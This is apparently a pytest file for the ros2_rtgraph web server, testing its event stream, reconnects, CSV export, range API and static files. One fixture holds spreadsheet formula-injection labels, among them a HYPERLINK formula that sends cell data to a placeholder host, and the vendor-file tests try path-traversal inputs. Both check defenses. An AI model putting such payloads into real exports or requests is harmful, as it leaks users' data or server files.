# Copyright 2026 ros2_rtgraph developers
# SPDX-License-Identifier: Apache-2.0
"""
The web side over real HTTP: the Flask app on a loopback port, real rings, a real frame pump.

Sites come from ``build_site`` through conftest's ``make_site``. Their feeder thread (the store's
single writer, as the ROS thread is in production) writes samples whose time encodes their
sequence number (``t = seq / 100``) and whose value is the sequence number itself, so a test can
tell exactly which samples a client got: none missing, none twice.
"""

import csv
import errno
import gc
import http.client
import io
import json
import re
import socket
import threading
import time

import pytest
from sse_client import Comment
from sse_client import Event
from sse_client import SSEClient
from web_helpers import FED  # s2 never gets a sample: it stays 'waiting'
from web_helpers import HOST
import xstatic.pkg.d3
import xstatic.pkg.rickshaw

from ros2_rtgraph.config import parse_config
from ros2_rtgraph.layout import Layout
from ros2_rtgraph.web import build_site
from ros2_rtgraph.web.app import EXTENSION
from ros2_rtgraph.web.broadcast import FramePump
from ros2_rtgraph.web.server import ServerBindError
from ros2_rtgraph.web.server import WebServer
from ros2_rtgraph.web.stream import parse_event_id
from ros2_rtgraph.web.stream import stream_events

CONFIG_YAML = """
server:
  host: 127.0.0.1
  port: 0
  frame_rate: 10
  window: 5
  buffer: 5000
charts:
  - title: Chart A
    unit: m
    min: -1
    max: 1
    limits: [0.5, {value: -0.5, label: low}]
    series:
      - /a.data
      - {topic: /b, field: data, label: 'B "quoted", label'}
  - title: Chart B
    series: [/c.data]
"""
JS_TYPES = {'text/javascript', 'application/javascript'}


@pytest.fixture
def make_site(make_site):
    """
    Return conftest's site factory over this module's configuration, with no token.

    :func:`make` takes ``buffer`` (samples per ring), ``yaml`` (another configuration with a
    ``buffer: 5000`` line) and the rest of :class:`web_helpers.FedSite`'s options; the feeder
    writes 6 samples every 20 ms by default.
    """

    def make(*, buffer: int = 5000, yaml: str = CONFIG_YAML, batch: int = 6,
             period: float = 0.02, **options):
        config = parse_config(yaml.replace('buffer: 5000', f'buffer: {buffer}'), '<test>')
        return make_site(config, token=None, batch=batch, period=period, **options)

    return make


def _seqs(event: Event) -> list[int]:
    """Return the sequence numbers an event carries (from t, series by series), checking values."""
    seqs = []
    for series in event.json()['series'].values():
        for t, v in zip(series['t'], series['v'], strict=True):
            seq = round(t * 100)
            assert v is None or v == seq
            seqs.append(seq)
    return seqs


def _read_data_until(client: SSEClient, last_id: int) -> list[Event]:
    """Read data events until one has an id of at least ``last_id``."""
    events = []
    while not events or int(events[-1].last_event_id) < last_id:
        events.append(client.next_event('data'))
    return events


def _start(client: SSEClient) -> tuple[Event, Event]:
    """Read the meta event and the snapshot or catch-up event after it."""
    meta = client.next_event()
    assert meta.event == 'meta'
    return meta, client.next_event()


# --- /stream ---------------------------------------------------------------------------------

def test_stream_headers_retry_then_meta(make_site):
    site = make_site()
    with SSEClient(HOST, site.port) as client:
        assert client.status == 200
        assert client.headers['Content-Type'].startswith('text/event-stream')
        assert client.headers['Cache-Control'] == 'no-cache'
        assert client.headers['X-Accel-Buffering'] == 'no'
        meta = client.next_event()
        assert client.retry == 2000
        assert meta.event == 'meta'
        assert not meta.has_id
        body = meta.json()
    assert abs(body.pop('server_time') - time.time()) < 600
    assert body.pop('instance') == site.store.epoch
    assert body == site.layout.describe()
    assert [s['id'] for s in body['series']] == ['s0', 's1', 's2']
    assert body['series'][1] == {
        'id': 's1', 'label': 'B "quoted", label', 'topic': '/b', 'field': 'data', 'unit': 'm',
        'chart': 0}
    assert body['charts'][0]['limits'] == [
        {'value': 0.5, 'label': ''}, {'value': -0.5, 'label': 'low'}]
    assert body['charts'][1]['series'] == ['s2']
    assert body['window'] == 5.0


def test_snapshot_holds_the_window_then_live_data_continues_it(make_site):
    site = make_site()
    site.feeder.wait_until(900)  # 9 s of sample time: more than the 5 s window
    with SSEClient(HOST, site.port) as client:
        _, snapshot = _start(client)
        assert snapshot.event == 'snapshot'
        snapshot_id = int(snapshot.last_event_id)
        body = snapshot.json()
        assert set(body['series']) == set(FED)
        for series in body['series'].values():
            assert series['t'][-1] - series['t'][0] <= 5.0 + 1e-9
            assert series['t'][-1] - series['t'][0] > 4.5
        assert max(_seqs(snapshot)) == snapshot_id
        live = _read_data_until(client, snapshot_id + 100)
    ids = [int(event.last_event_id) for event in live]
    assert ids == sorted(set(ids))
    assert ids[0] > snapshot_id
    seqs = [seq for event in live for seq in _seqs(event)]
    assert sorted(seqs) == list(range(snapshot_id + 1, ids[-1] + 1))


def test_two_clients_get_byte_identical_data_events(make_site):
    site = make_site()
    site.feeder.wait_until(50)
    with SSEClient(HOST, site.port) as first, SSEClient(HOST, site.port) as second:
        _start(first)
        _start(second)
        target = site.store.committed + 200  # 0.4 s of samples: about 8 frames on the grid
        raw_first = {e.last_event_id: e.raw for e in _read_data_until(first, target)}
        raw_second = {e.last_event_id: e.raw for e in _read_data_until(second, target)}
    common = sorted(set(raw_first) & set(raw_second), key=int)
    assert len(common) >= 3
    assert all(raw_first[key] == raw_second[key] for key in common)
    # ... and they are the pump's own bytes, encoded once.
    shared = {entry.payload for entry in site.pump.wait_for(0, 0.0)}
    assert raw_first[common[-1]] in shared


@pytest.mark.parametrize('via', ['header', 'query'])
def test_reconnect_gets_exactly_the_missed_samples(make_site, via):
    site = make_site()
    site.feeder.wait_until(30)
    with SSEClient(HOST, site.port) as client:
        _, snapshot = _start(client)
        last = _read_data_until(client, int(snapshot.last_event_id) + 30)[-1]
    last_id = int(last.last_event_id)
    # Samples the client misses while away, sent as frames to the clients still there.
    deadline = time.monotonic() + 20
    while site.pump.last_hi < last_id + 150:
        assert time.monotonic() < deadline
        site.pump.wait_for(site.pump.position()[0], 0.5)
    if via == 'header':
        again = SSEClient(HOST, site.port, headers={'Last-Event-ID': str(last_id)})
    else:
        again = SSEClient(HOST, site.port, path=f'/stream?lastEventId={last_id}')
    with again:
        _, catch_up = _start(again)
        assert catch_up.event == 'data'
        catch_up_id = int(catch_up.last_event_id)
        assert catch_up_id >= last_id + 150
        live = _read_data_until(again, catch_up_id + 30)
    seqs = _seqs(catch_up) + [seq for event in live for seq in _seqs(event)]
    assert sorted(seqs) == list(range(last_id + 1, int(live[-1].last_event_id) + 1))


def test_a_reconnect_the_rings_cannot_refill_marks_the_hole(make_site):
    site = make_site(feed=False, buffer=100)

    def write(count: int) -> int:
        """Append ``count`` samples alternately to s0 and s1 (t = seq / 100, v = seq)."""
        for _ in range(count):
            seq = site.store.committed + 1
            site.store.append(FED[seq % 2], seq / 100, float(seq))
        deadline = time.monotonic() + 20
        while site.pump.last_hi < site.store.committed:  # framed, so a reconnect can resume
            assert time.monotonic() < deadline
            site.pump.wait_for(site.pump.position()[0], 0.5)
        return site.store.committed

    seen = write(50)
    # Back soon: the rings hold everything missed, nothing is marked.
    write(40)
    with SSEClient(HOST, site.port, headers={'Last-Event-ID': str(seen)}) as client:
        _, catch_up = _start(client)
    series = catch_up.json()['series']
    assert sorted(_seqs(catch_up)) == list(range(seen + 1, 91))
    assert 'gap' not in series['s0'] and 'gap' not in series['s1']
    # Away long: each ring (100 samples) lost some of what came after the client's id.
    seen = 90
    newest = write(400)
    with SSEClient(HOST, site.port, headers={'Last-Event-ID': str(seen)}) as client:
        _, catch_up = _start(client)
    series = catch_up.json()['series']
    assert series['s0']['gap'] is True and series['s1']['gap'] is True
    assert sorted(_seqs(catch_up)) == list(range(newest - 199, newest + 1))  # what is left


@pytest.mark.parametrize('header', ['abc', '-1', '1e3', '', '99999999999'])
def test_unusable_last_event_id_gets_a_snapshot(make_site, header):
    site = make_site()
    site.feeder.wait_until(30)
    with SSEClient(HOST, site.port, headers={'Last-Event-ID': header}) as client:
        _, first = _start(client)
    assert first.event == 'snapshot'
    assert int(first.last_event_id) >= 0


def test_stats_event_about_once_a_second_with_counts(make_site):
    site = make_site()
    with SSEClient(HOST, site.port) as client:
        client.next_event('stats')
        stats = client.next_event('stats')
    assert not stats.has_id
    body = stats.json()['series']
    assert set(body) == {'s0', 's1', 's2'}
    assert body['s0']['samples'] > 0
    assert body['s0']['status']['state'] in {'ok', 'stale'}
    assert body['s2'] == {
        'rate': 0.0, 'age': None, 'samples': 0, 'decimated': 0, 'nonfinite': 0, 'errors': 0,
        'status': {'state': 'waiting', 'reason': ''}}


def test_nan_arrives_as_null(make_site):
    site = make_site(nan_every=5)
    site.feeder.wait_until(20)
    nulls = 0
    with SSEClient(HOST, site.port) as client:
        _start(client)
        while nulls < 3:
            event = client.next_event('data')
            for series in event.json()['series'].values():  # strict JSON: no NaN token
                for t, v in zip(series['t'], series['v'], strict=True):
                    seq = round(t * 100)
                    assert (v is None) == (seq % 5 == 0)
                    nulls += v is None


def test_idle_stream_sends_ping_comments(make_site):
    site = make_site(feed=False, heartbeat=0.2)
    with SSEClient(HOST, site.port) as client:
        _, snapshot = _start(client)
        assert snapshot.event == 'snapshot'
        assert snapshot.json() == {'series': {}}
        item = client.read()
        while not isinstance(item, Comment):
            item = client.read()
    assert item.text == ' ping'


def test_client_that_fell_out_of_the_history_is_resynced_from_the_rings(make_site):
    site = make_site()
    stop = threading.Event()
    pump = FramePump(site.layout, site.config.server, stop_event=stop, history_seconds=0.5)
    pump.start()
    events = stream_events(pump, site.layout)
    try:
        start = int(_parse_chunk(next(events))[-1]['id'])
        index, _ = pump.position()
        # Stall this client until the shared history no longer holds what it needs next.
        deadline = time.monotonic() + 20
        while pump.wait_for(0, 0.5)[0].index <= index + 1:
            assert time.monotonic() < deadline
        target = pump.last_hi + 1  # past the resync, into live frames again
        cursor, seqs = start, []
        resync = _parse_chunk(next(events))
        # It may have missed a meta event too: it gets the layout again, before the data.
        assert resync[0]['event'] == 'meta'
        assert json.loads(resync[0]['data'])['series'] == site.layout.describe()['series']
        while cursor < target:
            for event in resync:
                if event.get('event') == 'data':
                    seqs += _seqs(Event('data', event['data'], event['id'], True, b''))
                    cursor = int(event['id'])
            resync = _parse_chunk(next(events))
        assert sorted(seqs) == list(range(start + 1, cursor + 1))
        stop.set()
        with pytest.raises(StopIteration):
            for _ in range(100):  # ends within a poll interval once stop is set
                next(events)
    finally:
        events.close()
        stop.set()
        pump.join(5)


def _parse_chunk(chunk: bytes) -> list[dict[str, str]]:
    """Split generator output into events' fields (our server writes single-line fields)."""
    events = []
    for block in chunk.decode().split('\n\n'):
        fields = dict(line.split(': ', 1) for line in block.split('\n') if line)
        if fields:
            events.append(fields)
    return events


def test_stop_event_ends_streams_and_stop_frees_the_port(make_site):
    site = make_site()
    client = SSEClient(HOST, site.port)
    try:
        _start(client)
        with pytest.raises(ServerBindError) as bind_error:
            WebServer(site.app, HOST, site.port)
        assert f'{HOST}:{site.port}' in str(bind_error.value)
        assert bind_error.value.errno == errno.EADDRINUSE
        site.stop_event.set()
        while client.read(timeout=10) is not None:
            pass
        assert client.closed
    finally:
        client.close()
    site.server.stop()
    again = WebServer(site.app, HOST, site.port)  # the port is free again
    again.stop()
    assert again.port == site.port


def test_a_site_that_never_started_stops_and_frees_its_port():
    config = parse_config(CONFIG_YAML, '<test>')
    site = build_site(Layout.for_config(config), token=None, stop_event=threading.Event())
    site.stop()
    assert site.stop_event.is_set()
    WebServer(site.app, HOST, site.port).stop()  # the port is free again


# --- other routes ----------------------------------------------------------------------------

def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode('utf-8'))))


def test_csv_export_holds_every_sample_in_sequence_order(make_site):
    site = make_site(limit=200, nan_every=7)
    assert site.feeder.done.wait(20)
    status, headers, body = site.get('/api/export.csv')
    assert status == 200
    assert headers['Content-Type'].startswith('text/csv')
    disposition = headers['Content-Disposition']
    assert disposition.startswith('attachment; filename="rtgraph-')
    assert disposition.endswith('.csv"')
    rows = _csv_rows(body)
    assert rows[0] == ['series', 'label', 'seq', 't', 'utc', 'value']
    assert [int(row[2]) for row in rows[1:]] == list(range(1, 201))
    for series, label, seq, t, utc, value in rows[1:]:
        assert utc.startswith('1970-01-01T00:00:') and utc.endswith('Z')  # t = seq / 100
        seq = int(seq)
        assert series == FED[seq % 2]
        assert label == ('/a.data' if series == 's0' else 'B "quoted", label')
        assert float(t) == seq / 100
        assert value == ('nan' if seq % 7 == 0 else repr(float(seq)))


def test_csv_export_of_some_series_and_seconds(make_site):
    site = make_site(limit=200)
    assert site.feeder.done.wait(20)
    _, _, body = site.get('/api/export.csv?series=s1,s2&seconds=0.5')
    rows = _csv_rows(body)[1:]
    # s1 holds the odd seqs up to 199 (t = seq / 100): the last 0.5 s are seqs 149..199.
    assert [int(row[2]) for row in rows] == list(range(149, 200, 2))
    assert {row[0] for row in rows} == {'s1'}


@pytest.mark.parametrize(('query', 'message'), [
    ('series=s0,nope', 'nope'),
    ('series=S0', 'S0'),
    ('seconds=abc', 'abc'),
    ('seconds=-1', '-1'),
    ('seconds=0', '0'),
    ('seconds=nan', 'nan'),
    ('seconds=inf', 'inf'),
])
def test_csv_export_rejects_bad_parameters(make_site, query, message):
    site = make_site(feed=False)
    status, headers, body = site.get(f'/api/export.csv?{query}')
    assert status == 400
    assert headers['Content-Type'] == 'application/json'
    assert message in json.loads(body)['error']


FORMULA_YAML = """
server:
  host: 127.0.0.1
  port: 0
  buffer: 5000
charts:
  - title: Labels a spreadsheet would run
    series:
      - {topic: /a, field: data, label: '=HYPERLINK("http://x.invalid/?"&A1,"open")'}
      - {topic: /b, field: data, label: '+1+1'}
      - {topic: /c, field: data, label: '-1+1'}
      - {topic: /d, field: data, label: '@SUM(A1:A9)'}
      - {topic: /e, field: data, label: "\\t=1"}
      - {topic: /f, field: data, label: "\\r=1"}
      - {topic: /g, field: data, label: 'IMU z=1'}
"""


def test_csv_export_escapes_formula_labels_and_keeps_negative_numbers(make_site):
    site = make_site(yaml=FORMULA_YAML, feed=False)
    labels = [series.label for series in site.config.series]
    for series in site.config.series:
        site.store.append(series.id, -2.5, -1.5)
    status, _, body = site.get('/api/export.csv')
    assert status == 200
    rows = _csv_rows(body)[1:]
    assert [row[1] for row in rows] == ["'" + label for label in labels[:6]] + ['IMU z=1']
    assert {(row[3], row[4], row[5]) for row in rows} == {
        ('-2.5', '1969-12-31T23:59:57.500000Z', '-1.5')}


#: Samples in the big store: 500 000 per fed series, in rings of 600 000.
BIG = 1_000_000


def _fill_big_store(site) -> None:
    """Write BIG samples as the feeder would (seq, t = seq / 100, value seq), then start it."""
    append = site.store.append
    for seq in range(1, BIG + 1):
        append(FED[seq % 2], seq / 100, float(seq))
    site.feeder.start()  # carries on from BIG + 1 while the test runs


def _status_kb(field: str) -> int:
    """Return a figure of this process from /proc/self/status, in kB (e.g. 'VmHWM')."""
    with open('/proc/self/status', encoding='ascii') as status:
        for line in status:
            if line.startswith(field + ':'):
                return int(line.split()[1])
    raise AssertionError(f'no {field} in /proc/self/status')


def test_csv_export_of_a_million_samples_streams_in_little_memory_while_a_stream_flows(
        make_site):
    site = make_site(buffer=600_000, feed=False)
    _fill_big_store(site)
    arrivals: list[float] = []
    done = threading.Event()
    with SSEClient(HOST, site.port) as client:
        _start(client)

        def watch() -> None:
            while not done.is_set():
                client.next_event('data')
                arrivals.append(time.monotonic())
        watcher = threading.Thread(target=watch, daemon=True)
        watcher.start()
        gc.collect()
        with open('/proc/self/clear_refs', 'w', encoding='ascii') as clear:
            clear.write('5')  # peak RSS (VmHWM) starts again from the RSS now
        before = _status_kb('VmRSS')
        connection = http.client.HTTPConnection(HOST, site.port, timeout=30)
        started = time.monotonic()
        connection.request('GET', '/api/export.csv')
        response = connection.getresponse()
        lines, tail = 0, b''
        while chunk := response.read(65536):
            lines += chunk.count(b'\n')
            tail = (tail + chunk)[-200:]
        ended = time.monotonic()
        connection.close()
        growth_mb = (_status_kb('VmHWM') - before) / 1024
        done.set()
        watcher.join(15)
    assert response.status == 200
    # The last row's label may be the quoted 'B "quoted", label': read it as CSV.
    last = next(csv.reader([tail.splitlines()[-1].decode('ascii')]))
    # Every sample up to the request's bound, once: the last row's seq is the row count.
    assert int(last[2]) == lines - 1 >= BIG
    assert growth_mb < 50, f'peak RSS grew by {growth_mb:.1f} MB during the export'
    during = [t for t in arrivals if started <= t <= ended]
    gaps = [b - a for a, b in zip([started, *during], [*during, ended], strict=True)]
    assert max(gaps) < 1.0, f'no data event for {max(gaps):.2f} s during the export'


def test_csv_exports_beyond_two_at_once_get_503_and_streams_are_not_counted(make_site):
    site = make_site(buffer=600_000, feed=False)
    _fill_big_store(site)
    exports = site.app.extensions[EXTENSION].exports
    held = []
    for _ in range(2):  # two downloads that nobody reads: they stay open, blocked on the socket
        connection = http.client.HTTPConnection(HOST, site.port, timeout=10)
        # A small receive buffer: loopback's would otherwise take the whole file (up to 32 MB).
        connection.sock = socket.socket()
        connection.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16384)
        connection.sock.connect((HOST, site.port))
        connection.request('GET', '/api/export.csv')
        held.append(connection.getresponse())  # it holds the socket now: keep it open
        assert held[-1].status == 200
    assert exports.active == 2
    status, headers, body = site.get('/api/export.csv?series=s2')
    assert status == 503
    assert headers['Retry-After'] == '5'
    assert json.loads(body) == {'error': 'too many CSV downloads at once (at most 2)'}
    with SSEClient(HOST, site.port) as client:
        assert client.status == 200
        assert client.next_event().event == 'meta'
    held.pop().close()  # the blocked send fails: its slot is freed
    deadline = time.monotonic() + 10
    while exports.active > 1:
        assert time.monotonic() < deadline, 'a closed download kept its slot'
        time.sleep(0.02)
    status, _, body = site.get('/api/export.csv?series=s2')
    assert (status, body) == (200, b'series,label,seq,t,utc,value\r\n')
    held.pop().close()


def test_api_range_gives_a_span_at_full_resolution_with_its_sequence_numbers(make_site):
    site = make_site(limit=200)
    assert site.feeder.done.wait(20)
    status, headers, body = site.get('/api/range?series=s1,s0&t0=0.5&t1=0.9&points=100')
    assert status == 200 and headers['Cache-Control'] == 'no-store'
    data = json.loads(body)
    assert data['hi'] == 200 and list(data['series']) == ['s1', 's0']
    odd = data['series']['s1']  # s1 holds the odd seqs, t = seq / 100
    assert odd['seq'] == list(range(51, 90, 2)) and odd['held'] == 20
    assert odd['t'] == [seq / 100 for seq in odd['seq']]
    assert odd['v'] == [float(seq) for seq in odd['seq']]
    _, _, body = site.get('/api/range?series=s0&t0=0&t1=2&points=3')
    even = json.loads(body)['series']['s0']
    assert even['held'] == 100 and len(even['seq']) <= 3 * 4
    assert {even['seq'][0], even['seq'][-1]} == {2, 200}  # first and last of the span kept


@pytest.mark.parametrize(('query', 'message'), [
    ('t0=0&t1=1&points=10', 'series must name at least one series'),
    ('series=s0,nope&t0=0&t1=1&points=10', 'unknown series: nope'),
    ('series=s0&t0=abc&t1=1&points=10', "t0 must be a number, got 'abc'"),
    ('series=s0&t0=0&t1=inf&points=10', "t1 must be a number, got 'inf'"),
    ('series=s0&t0=2&t1=1&points=10', 't1 (1) must not be before t0 (2)'),
    ('series=s0&t0=0&t1=1&points=0', "points must be an integer from 1 to 10000, got '0'"),
    ('series=s0&t0=0&t1=1', "points must be an integer from 1 to 10000, got ''"),
])
def test_api_range_rejects_bad_parameters(make_site, query, message):
    site = make_site(limit=10)
    status, _, body = site.get(f'/api/range?{query}')
    assert status == 400
    assert message in json.loads(body)['error']


def test_api_config_describes_the_charts(make_site):
    site = make_site(feed=False)
    status, headers, body = site.get('/api/config')
    assert status == 200
    assert headers['Content-Type'] == 'application/json'
    data = json.loads(body)
    assert data == site.layout.describe()
    assert data['charts'][0]['title'] == 'Chart A'
    assert (data['charts'][0]['min'], data['charts'][0]['max']) == (-1.0, 1.0)


def test_healthz_says_ok_and_nothing_else(make_site):
    site = make_site(feed=False)
    status, _, body = site.get('/healthz')
    assert status == 200
    assert json.loads(body) == {'status': 'ok'}


def test_index_page_is_html(make_site):
    site = make_site(feed=False)
    status, headers, body = site.get('/')
    assert status == 200
    assert headers['Content-Type'].startswith('text/html')
    assert b'<html' in body


@pytest.mark.parametrize(('path', 'base', 'name', 'types'), [
    ('/vendor/d3/d3.js', xstatic.pkg.d3.BASE_DIR, 'd3.js', JS_TYPES),
    ('/vendor/rickshaw/rickshaw.js', xstatic.pkg.rickshaw.BASE_DIR, 'rickshaw.js', JS_TYPES),
    ('/vendor/rickshaw/rickshaw.css', xstatic.pkg.rickshaw.BASE_DIR, 'rickshaw.css',
     {'text/css'}),
])
def test_vendor_files_come_from_xstatic(make_site, path, base, name, types):
    site = make_site(feed=False)
    status, headers, body = site.get(path)
    assert status == 200
    assert headers['Content-Type'].split(';')[0] in types
    with open(f'{base}/{name}', 'rb') as file:
        assert body == file.read()


@pytest.mark.parametrize('path', [
    '/vendor/d3/nope.js', '/vendor/rickshaw/..%2f__init__.py', '/vendor/d3/../app.py'])
def test_unknown_vendor_files_are_404(make_site, path):
    site = make_site(feed=False)
    status, _, _ = site.get(path)
    assert status == 404


# --- pure helpers ----------------------------------------------------------------------------

@pytest.mark.parametrize(('text', 'expected'), [
    (None, None),
    ('', None),
    ('0', 0),
    ('42', 42),
    (' 42 ', 42),
    ('-1', None),
    ('1.5', None),
    ('4e2', None),
    ('abc', None),
    ('\u0661\u0662', None),  # Arabic-Indic digits: isdigit() but not ours
    ('9' * 19, int('9' * 19)),
    ('9' * 20, None),
])
def test_parse_event_id(text, expected):
    assert parse_event_id(text) == expected


def _chunked_pieces(connection: socket.socket, count: int) -> tuple[bytes, list[bytes]]:
    """Return a streaming response's head and then ``count`` successive recv() results."""
    head = b''
    while b'\r\n\r\n' not in head:
        head += connection.recv(65536)
    head, _, first = head.partition(b'\r\n\r\n')
    pieces = [first] if first else []
    while len(pieces) < count:
        pieces.append(connection.recv(65536))
    return head, pieces


def _whole_chunks(data: bytes) -> list[bytes]:
    """Split chunked-encoded bytes into chunk payloads; fail unless ``data`` ends a chunk."""
    payloads = []
    while data:
        size, _, rest = data.partition(b'\r\n')
        assert re.fullmatch(rb'[0-9A-F]+', size), data[:80]
        length = int(size, 16)
        assert len(rest) >= length + 2 and rest[length:length + 2] == b'\r\n', data[:80]
        payloads.append(rest[:length])
        data = rest[length + 2:]
    return payloads


def test_each_event_batch_reaches_the_client_in_one_piece_and_at_once(make_site):
    """The server sends a chunk (size line, events, CRLF) in one send, unbuffered, Nagle off."""
    site = make_site()  # 10 frames/s
    with socket.create_connection((HOST, site.port), timeout=10) as connection:
        connection.sendall(f'GET /stream HTTP/1.1\r\nHost: {HOST}:{site.port}\r\n\r\n'.encode())
        head, pieces = _chunked_pieces(connection, 32)
    assert head.startswith(b'HTTP/1.1 200 ')
    assert b'\r\nTransfer-Encoding: chunked' in head
    # The first chunk (retry, meta, the snapshot) may be large: look at the live ones after it.
    live = [_whole_chunks(piece) for piece in pieces[2:]]  # each recv ends where a chunk ends
    events = [payload for chunks in live for payload in chunks]
    assert all(payload.endswith(b'\n\n') for payload in events)  # each chunk: whole events
    assert sum(payload.count(b'event: data\n') for payload in events) >= 25
    # Unbuffered: the chunks came one by one as frames were made, not in a few large batches
    # (generous, for a busy machine: a recv may return two chunks that arrived together).
    assert len(live) >= len(events) / 2
